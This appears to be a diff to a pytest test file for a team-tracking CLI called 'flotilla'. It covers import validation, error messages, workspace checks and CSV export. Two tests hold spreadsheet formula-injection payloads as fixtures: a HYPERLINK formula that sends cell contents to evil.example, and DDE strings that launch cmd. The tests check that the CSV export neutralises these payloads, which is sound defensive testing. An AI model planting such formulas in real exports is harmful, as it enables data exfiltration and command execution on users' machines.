@@ -63,7 +63,7 @@ def test_json_read_is_machine_readable(db: str) -> None:
     teams = json.loads(result.stdout)
     assert teams == [
         {"handle": "payments", "name": "Payments", "parent": None, "leads": ["bob"], "members": ["bob"],
-         "channel": "payments"}
+         "channel": "payments", "archived": False}
     ]  # fmt: skip
 
 
@@ -121,8 +121,14 @@ def test_import_refuses_garbage_and_writes_nothing(db: str, tmp_path: Path) -> N
     bad = tmp_path / "bad.json"
     bad.write_text(json.dumps({"format": "flotilla-export/1", "people": [{"handle": "x"}]}))
     result = flotilla("import", str(bad), db=db)
-    assert result.returncode == 2 and "malformed" in result.stderr
-    assert json.loads(flotilla("export", db=db).stdout)["people"] == []
+    assert result.returncode == 2 and "person x: name is missing" in result.stderr
+    assert_no_workspace(db)
+
+
+def assert_no_workspace(db: str, name: str = "console") -> None:
+    """Nothing was written: not even the workspace's row."""
+    refused = flotilla("export", "--workspace", name, db=db)
+    assert refused.returncode == 2 and f"there is no workspace {name!r}" in refused.stderr, refused.stderr
 
 
 def test_csv_export_writes_one_file_per_table(db: str, tmp_path: Path) -> None:
@@ -132,10 +138,10 @@ def test_csv_export_writes_one_file_per_table(db: str, tmp_path: Path) -> None:
     result = flotilla("export", "--format", "csv", "--out", str(out), db=db)
     assert result.returncode == 0
     teams = (out / "teams.csv").read_text().splitlines()
-    assert teams[0] == "handle,name,parent,leads,members,channel"
-    assert teams[1] == "payments,Payments,,,bob carol,payments"
-    assert (out / "people.csv").read_text().splitlines()[1:] == ["ada,ada,UTC,true", "bob,bob,UTC,false",
-                                                                  "carol,carol,UTC,false"]  # fmt: skip
+    assert teams[0] == "handle,name,parent,leads,members,channel,archived"
+    assert teams[1] == "payments,Payments,,,bob carol,payments,false"
+    assert (out / "people.csv").read_text().splitlines()[1:] == ["ada,ada,,true,false", "bob,bob,,false,false",
+                                                                  "carol,carol,,false,false"]  # fmt: skip
 
 
 def test_console_reads_a_script_from_stdin(db: str) -> None:
@@ -195,13 +201,13 @@ def test_bad_arguments_are_one_line_and_exit_2(db: str) -> None:
 @pytest.mark.parametrize(
     ("path", "value", "says"),
     [
-        (("events", 0, "at"), "2026-11-23T09:00:00", "timestamp needs a UTC offset"),
-        (("priorities", 0, "confidence"), "high", "confidence must be a whole number"),
-        (("priorities", 0, "progress"), 500, "progress must be a whole number"),
-        (("teams", 0, "members"), ["ghost"], "unknown person 'ghost'"),
-        (("priorities", 0, "team"), "nope", "unknown team 'nope'"),
-        (("priorities", 0, "id"), "P-0", "ids start at 1"),
-        (("people", 0, "handle"), "Bad Handle!", "not usable"),
+        (("events", 0, "at"), "2026-11-23T09:00:00", "event 1: at: 2026-11-23T09:00:00 has no UTC offset"),
+        (("priorities", 0, "confidence"), "high", "P-1: confidence must be a whole number from 0 to 100"),
+        (("priorities", 0, "progress"), 500, "P-1: progress must be a whole number from 0 to 100"),
+        (("teams", 0, "members"), ["ghost"], "team payments: member 'ghost' is not among the people"),
+        (("priorities", 0, "team"), "nope", "P-1: team 'nope' is not among the teams"),
+        (("priorities", 0, "id"), "P-0", "priorities[1]: id: P-0 is not an id"),
+        (("people", 0, "handle"), "Bad Handle!", "people[1]: handle: 'Bad Handle!' is not a person's handle"),
     ],
 )
 def test_import_refuses_an_edited_export_and_stores_nothing(
@@ -221,4 +227,93 @@ def test_import_refuses_an_edited_export_and_stores_nothing(
     result = flotilla("import", str(bad), db=other)
     assert result.returncode == 2, result.stderr
     assert says in result.stderr and "Traceback" not in result.stderr
-    assert json.loads(flotilla("export", db=other).stdout)["people"] == []
+    assert_no_workspace(other)
+
+
+def test_times_that_no_date_can_hold_are_refused_not_crashed(db: str) -> None:
+    """Every `--now` the issue crashed with (OverflowError, exit 1) is now one line and exit 2."""
+    for now in ("9999-12-31T23:30Z", "0001-01-01T00:10+05:00", "9999-12-31T23:30-05:00"):
+        result = flotilla("run", 'priority add "x" --due tomorrow', "--as", "ada", "--now", now, db=db)
+        assert result.returncode == 2, (now, result.stderr)
+        assert "outside the times I keep" in result.stderr and "Traceback" not in result.stderr
+    assert_no_workspace(db)
+
+
+def test_workspace_names_are_checked_and_unknown_ones_are_never_created(db: str) -> None:
+    for name in ("", "a" * 100_000, "two words", "-x", "<!here>"):
+        result = flotilla("run", "team list", "--workspace", name, db=db)
+        assert result.returncode == 2 and "workspace" in result.stderr and "Traceback" not in result.stderr, name
+    assert run("team list", db, workspace="T0ACME").returncode == 0  # a read answers as for an empty one
+    assert run('priority add ""', db, workspace="T0ACME").returncode == 2  # a refusal
+    assert run("me", db, workspace="T0ACME").returncode == 0
+    typo = flotilla("export", "--workspace", "nosuch", db=db)
+    assert typo.returncode == 2 and "there is no workspace 'nosuch'" in typo.stderr
+    assert_no_workspace(db, "T0ACME")
+    assert_no_workspace(db, "nosuch")
+    assert run('team create payments "Payments"', db, workspace="T0ACME").returncode == 0
+    assert flotilla("export", "--workspace", "T0ACME", db=db).returncode == 0  # a write creates it
+
+
+def test_help_on_something_that_does_not_exist_is_refused(db: str) -> None:
+    assert run("help", db).returncode == 0
+    nonsense = run("help nonsense", db)
+    assert nonsense.returncode == 2 and "No help for 'nonsense'" in nonsense.stdout
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_keeps_them(db: str, tmp_path: Path) -> None:
+    formulas = ["=HYPERLINK(CONCAT('https://evil.example/?x=',A1),'Open report')", "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]  # fmt: skip
+    assert run('team create payments "Payments"', db).returncode == 0
+    for text in formulas:
+        assert run(f"blocker add {json.dumps(text)} --team payments", db).returncode == 0, text
+    out = tmp_path / "csv"
+    assert flotilla("export", "--format", "csv", "--out", str(out), db=db).returncode == 0
+    import csv
+
+    with (out / "blockers.csv").open(encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["text"] for r in rows] == [f"'{t}" for t in formulas]
+    assert [r["id"] for r in rows] == ["B-1", "B-2", "B-3", "B-4"]  # ids and plain text stay as they are
+    data = json.loads(flotilla("export", db=db).stdout)
+    assert [b["text"] for b in data["blockers"]] == formulas  # JSON keeps text exactly
+
+
+def test_every_formula_start_is_neutralised_in_csv_only() -> None:
+    from bot.cli import _csv_cell
+
+    issue = '=HYPERLINK("https://evil.example/?x="&A1,"Open report")'
+    for text in (issue, "+1", "-1", "@x", "\tx", "\rx"):
+        assert _csv_cell(text) == "'" + text
+    assert [_csv_cell(v) for v in ("plain", "P-3", -5, 2.5, True, None, ["=a", "b"])] == [
+        "plain", "P-3", "-5", "2.5", "true", "", "'=a b"]  # fmt: skip
+
+
+def test_a_hand_broken_import_is_refused_in_one_line_whatever_the_shape(db: str, tmp_path: Path) -> None:
+    """The crashes of the issue (a 20-digit id, a rank of 10^30, a handle that is a list, a name that is
+    an object) and files that are not exports at all: exit 2, one line, nothing written."""
+    assert run('team create payments "Payments"', db).returncode == 0
+    assert run('priority add "Checkout" --team payments', db).returncode == 0
+    good = json.loads(flotilla("export", db=db).stdout)
+    other = f"sqlite:///{tmp_path / 'other.db'}"
+    edits: list[Any] = [
+        lambda d: d["priorities"][0].update(id="P-99999999999999999999"),
+        lambda d: d["priorities"][0].update(rank=10**30),
+        lambda d: d["teams"][0].update(handle=["payments"]),
+        lambda d: d["people"][0].update(name={"first": "Ada"}),
+    ]
+    for i, edit in enumerate(edits):
+        data = json.loads(json.dumps(good))
+        edit(data)
+        path = tmp_path / f"bad{i}.json"
+        path.write_text(json.dumps(data))
+        result = flotilla("import", str(path), db=other)
+        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
+        assert len(result.stderr.strip().splitlines()) == 1 and "Nothing was imported" in result.stderr
+    junk = ["[1, 2]", "{", '{"format": "flotilla-export/1", "people": 5}', "[" * 100_000 + "]" * 100_000,
+            '{"format": "flotilla-export/1", "people": [{"handle": 1e999}]}']  # fmt: skip
+    for i, raw in enumerate(junk):
+        path = tmp_path / f"junk{i}.json"
+        path.write_text(raw)
+        result = flotilla("import", str(path), db=other)
+        assert result.returncode == 2 and "Traceback" not in result.stderr, (raw[:40], result.stderr)
+    assert_no_workspace(other)
